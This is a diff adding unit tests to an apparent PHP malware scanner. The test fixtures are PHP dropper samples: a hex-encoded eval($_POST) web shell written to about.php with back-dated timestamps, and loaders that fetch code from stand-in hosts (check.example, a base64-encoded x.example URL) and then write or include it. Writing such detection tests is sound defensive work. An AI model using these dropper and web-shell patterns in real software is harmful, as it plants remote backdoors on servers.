@@ -171,3 +171,31 @@ def test_skipping_analytics_for_crawlers_is_not_cloaking():
 def test_a_template_method_named_include_is_not_an_include():
     src = b"<?= $this->include('assets/images/icon-minus.svg'); ?>"
     assert found(src) == set()
+
+
+def test_dropper_decoding_in_a_loop_and_back_dating():
+    src = (b"<?php $parts = array('3c3f70687020', '406576616c28', '245f504f53545b', '2770275d293b');\n"
+           b"$out = ''; foreach ($parts as $p) { $out .= hex2bin($p); }\n"
+           b"$f = $dir . '/about.php'; file_put_contents($f, $out); touch($f, time() - 86400 * 400);")
+    f = found(src)
+    assert {'php.dropper.writes_code', 'php.dropper.timestomp'} <= f
+    assert suspicious(src)
+
+
+def test_loader_url_in_a_class_constant_written_to_php():
+    src = (b"<?php class Cron { const U = 'http://check.example/p.php?h=';\n"
+           b"function run() { $p = @file_get_contents(self::U . urlencode($h));\n"
+           b"$d = BP . '/pub/media/.thumbs.php'; @file_put_contents($d, base64_decode(substr($p, 3))); } }")
+    assert 'php.dropper.fetched_php' in found(src)
+
+
+def test_fetched_code_written_to_a_temp_file_and_included():
+    src = (b"<?php $s = @file_get_contents(base64_decode('aHR0cDovL3guZXhhbXBsZS9zLnR4dA=='));\n"
+           b"$t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, $s); include $t; @unlink($t);")
+    assert 'php.code.fetched_code' in found(src)
+
+
+def test_downloading_a_zip_to_a_temp_file_is_not_running_it():
+    src = (b"<?php $z = file_get_contents('https://downloads.example/plugin.zip');\n"
+           b"$t = tempnam(sys_get_temp_dir(), 'p'); file_put_contents($t, $z); $zip->open($t);")
+    assert found(src) == set()
